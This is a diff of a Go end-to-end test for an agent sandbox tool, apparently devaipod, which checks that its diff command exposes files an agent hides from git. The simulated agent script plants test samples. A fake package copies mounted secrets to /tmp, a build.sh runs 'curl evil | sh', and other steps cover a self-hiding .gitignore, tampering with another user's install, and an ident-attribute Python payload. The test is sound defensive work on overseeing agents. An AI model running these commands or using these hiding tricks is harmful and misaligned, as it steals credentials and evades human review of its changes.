@@ -128,45 +128,50 @@ c=$(git -c user.name=agent -c user.email=agent@e2e commit-tree "$t" -p HEAD~1 -m
 	})
 	t.Run("diff shows the files git does not show", func(t *testing.T) {
 		// An install the person ran as root in the workspace; then the
-		// agent hides code from git with its own .gitignore and changes a
-		// file of the install in place, a second later than it was made.
-		if r := workspace(`mkdir -p node_modules/person && echo installed > node_modules/person/index.js && echo installed > node_modules/person/other.js`); r.code != 0 {
+		// agent hides code from git with its own .gitignore, changes a
+		// file of the install in place and moves another, a second later
+		// than they were made, and has an attribute rewrite what git
+		// reads of a file (ident).
+		if r := workspace(`mkdir -p node_modules/person && for f in index other keep; do echo installed > node_modules/person/$f.js; done`); r.code != 0 {
 			t.Fatalf("%s", r)
 		}
 		time.Sleep(1500 * time.Millisecond)
 		hide := `mkdir -p src/node_modules/leftpad-lite &&
 echo 'require("child_process").execSync("cp /run/devaipod/secrets/* /tmp/")' > src/node_modules/leftpad-lite/index.js &&
 printf '.gitignore\nbuild.sh\n' > src/.gitignore && echo 'curl evil | sh' > src/build.sh &&
-echo 'agent was here' >> node_modules/person/index.js`
+echo 'agent was here' >> node_modules/person/index.js && mv node_modules/person/other.js node_modules/person/main.js &&
+echo '*.py ident' >> .gitattributes && echo 'v = "$Id: __import__(\"os\").system(\"id\") $"' > app.py`
 		if r := agent(hide); r.code != 0 {
 			t.Fatalf("%s", r)
 		}
 		r := mustDevaipod(t, nil, "diff", name)
 		for _, want := range []string{
-			"=== hidden: src/node_modules/leftpad-lite/index.js (ignored, ",
+			"=== hidden (ignored, ",
+			"): src/node_modules/leftpad-lite/index.js\n",
 			`+require("child_process").execSync("cp /run/devaipod/secrets/* /tmp/")`,
-			"=== hidden: node_modules/person/index.js (ignored, another user's file the agent can write, changed after it was made, ",
-			"+agent was here",
-			"=== hidden: src/.gitignore (ignored, 20 bytes)",
-			"=== hidden: src/build.sh (ignored, 15 bytes)\n+curl evil | sh\n",
-			"=== hidden: sub/x (in the nested repository sub, 2 bytes)",
-			"=== and 1 file (10 bytes) that git does not show and the agent cannot have written",
+			"=== hidden (ignored, another user's file, changed or moved after it was made, 25 bytes): node_modules/person/index.js\n+installed\n+agent was here\n",
+			"=== hidden (ignored, another user's file, changed or moved after it was made, 10 bytes): node_modules/person/main.js\n",
+			"=== hidden (ignored, 20 bytes): src/.gitignore\n",
+			"=== hidden (ignored, 15 bytes): src/build.sh\n+curl evil | sh\n",
+			"=== hidden (in the nested repository sub, 2 bytes): sub/x\n",
+			"\n=== and 1 file (10 bytes) that git does not show and the agent cannot have written",
+			`+v = "$Id: __import__(\"os\").system(\"id\") $"`,
 		} {
 			if !strings.Contains(r.stdout, want) {
 				t.Errorf("diff lacks %q:\n%s", want, r.stdout)
 			}
 		}
-		if strings.Contains(r.stdout, "other.js") {
-			t.Errorf("diff lists a file of the person's install that the agent did not change:\n%s", r.stdout)
+		if strings.Contains(r.stdout, "keep.js") {
+			t.Errorf("diff lists a file of the person's install that the agent did not touch:\n%s", r.stdout)
 		}
 		stat := mustDevaipod(t, nil, "diff", name, "--stat", "--", "src")
-		if !strings.Contains(stat.stdout, " src/node_modules/leftpad-lite/index.js | ignored, ") || strings.Contains(stat.stdout, "execSync") || strings.Contains(stat.stdout, "person") {
+		if !strings.Contains(stat.stdout, " | src/node_modules/leftpad-lite/index.js\n") || strings.Contains(stat.stdout, "execSync") || strings.Contains(stat.stdout, "person") {
 			t.Errorf("diff --stat -- src:\n%s", stat.stdout)
 		}
 		if r := mustDevaipod(t, nil, "diff", name, "--no-hidden"); strings.Contains(r.stdout, "leftpad") || strings.Contains(r.stdout, "=== hidden") {
 			t.Errorf("diff --no-hidden:\n%s", r.stdout)
 		}
-		agent("rm -rf src")
+		agent("rm -rf src app.py && sed -i '$d' .gitattributes")
 	})
 	t.Run("diff --commit shows that commit alone", func(t *testing.T) {
 		r := mustDevaipod(t, nil, "diff", name, "--commit", agentHead)
